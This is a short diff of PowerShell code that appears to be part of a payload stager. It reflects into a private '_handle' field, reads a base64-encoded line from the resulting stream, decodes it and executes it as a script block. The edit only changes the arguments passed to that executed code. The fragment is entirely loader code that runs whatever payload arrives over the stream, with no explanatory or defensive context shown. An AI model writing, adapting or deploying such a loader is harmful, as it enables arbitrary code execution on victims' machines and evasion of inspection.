@@ -4,4 +4,4 @@ $h=$c.GetType().GetField('_handle',[Reflection.BindingFlags]'Instance,NonPublic'
 $f=New-Object IO.FileStream($h,[IO.FileAccess]::Read,4096,$false)
 $r=New-Object IO.StreamReader($f,[Text.Encoding]::ASCII,$false,4096)
 $a=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($r.ReadLine()))
-& ([ScriptBlock]::Create($a)) $r 'NONCE'
+& ([ScriptBlock]::Create($a)) $r 'NONCE' $a
